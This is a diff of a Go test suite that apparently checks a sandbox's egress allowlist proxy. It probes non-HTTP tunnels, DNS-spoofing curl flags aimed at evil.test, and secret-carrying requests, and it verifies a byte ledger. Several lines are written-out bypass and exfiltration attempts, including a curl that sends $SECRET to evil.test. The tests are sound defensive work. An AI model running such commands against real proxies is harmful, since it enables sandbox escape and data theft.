@@ -99,6 +99,86 @@ func (s *suite) egressFacts(t *testing.T) {
 		}
 	})
 
+	t.Run("C29 C47 a tunnel to another port, and what speaks no HTTP, come to nothing", func(t *testing.T) {
+		t.Parallel()
+		w := newWorld(t, "good.test")
+		var ops []probe.Op
+		for _, to := range []string{"good.test:22", "good.test:6379", "good.test:0", "good.test:65536", "good.test", "good.test:443\t", "evilgood.test:443", "good.test.evil.test:443"} {
+			ops = append(ops, connect(to))
+		}
+		for _, text := range []string{"\x05\x01\x00", "\x04\x01\x01\xbb\x00\x00\x00\x01\x00good.test\x00", "GET gopher://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "GET ftp://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "USER x\r\n"} {
+			ops = append(ops, probe.Do("send", proxyAddr, text))
+		}
+		ops = append(ops, get("good.test", "/control"))
+		r := s.asking(t, w, ops...)
+		r.exited(t, 0)
+		r.faulted(t, box.EgressDenied)
+		a := parse(t, r.stdout)
+		for i := range len(ops) - 1 {
+			if strings.Contains(a[i].Text, " 200 ") {
+				t.Errorf("%q: %s", ops[i].Args[1], tell(a[i]))
+			}
+		}
+		if got := w.good.requests(); fmt.Sprint(got) != "[good.test/control]" || len(w.evil.requests()) != 0 {
+			t.Errorf("the servers got %q and %q", got, w.evil.requests())
+		}
+	})
+
+	t.Run("D59 who verifies nothing gets the allowed name's own server, and no other", func(t *testing.T) {
+		t.Parallel()
+		Need(t, "curl")
+		w := newWorld(t, "good.test")
+		w.good.overTLS(t)
+		w.evil.overTLS(t)
+		j := s.shell(t, `
+curl -sk https://good.test/a; echo
+curl -sk --resolve good.test:443:`+evilAddr+` https://good.test/b; echo
+curl -sk --connect-to good.test:443:evil.test:443 https://good.test/c
+curl -sk --resolve evil.test:443:`+goodAddr+` https://evil.test/d
+curl -s https://good.test/e
+true`)
+		j.Network, j.proxy = box.NetworkAllowlist, w.proxy
+		j.Env = append(j.Env, egress.Environ(box.ProxyPort)...)
+		r := s.run(t, j)
+		r.exited(t, 0)
+		r.faulted(t, box.EgressDenied)
+		if r.stdout != "hello from good.test\nhello from good.test\n" {
+			t.Errorf("curl: %s", r.describe())
+		}
+		if got := w.good.requests(); fmt.Sprint(got) != "[good.test/a good.test/b]" || len(w.evil.requests()) != 0 {
+			t.Errorf("the servers got %q and %q", got, w.evil.requests())
+		}
+	})
+
+	t.Run("M150 M151 what is sent to an allowed name goes as it is, and how much of it is in the ledger", func(t *testing.T) {
+		t.Parallel()
+		Need(t, "curl")
+		const much = 200_000
+		w := newWorld(t, "good.test")
+		j := s.shell(t, `
+curl -s -o /dev/null 'http://good.test/%24%7BSECRET%7D/$SECRET/{{secret}}' -g -H 'Authorization: ${SECRET}'
+head -c `+fmt.Sprint(much)+` /dev/zero | curl -s -o /dev/null --data-binary @- http://good.test/up
+curl -s -o /dev/null 'http://evil.test/$SECRET' -g
+true`)
+		j.Network, j.proxy = box.NetworkAllowlist, w.proxy
+		j.Env = append(append(j.Env, "SECRET=sesame-open"), egress.Environ(box.ProxyPort)...)
+		r := s.run(t, j)
+		r.exited(t, 0)
+		r.faulted(t, box.EgressDenied)
+		if got := w.good.requests(); fmt.Sprint(got) != "[good.test/${SECRET}/$SECRET/{{secret}} good.test/up]" || len(w.evil.requests()) != 0 {
+			t.Errorf("the servers got %q and %q", got, w.evil.requests())
+		}
+		var out uint64
+		for _, rec := range w.ledger.Records() {
+			if rec.Host == "good.test" {
+				out += rec.BytesOut
+			}
+		}
+		if out < much || out > 2*much {
+			t.Errorf("the ledger has %d bytes out of %d and some", out, much)
+		}
+	})
+
 	t.Run("E64 what a root says of names in its hosts file is of no account to the proxy", func(t *testing.T) {
 		t.Parallel()
 		Need(t, "overlay")
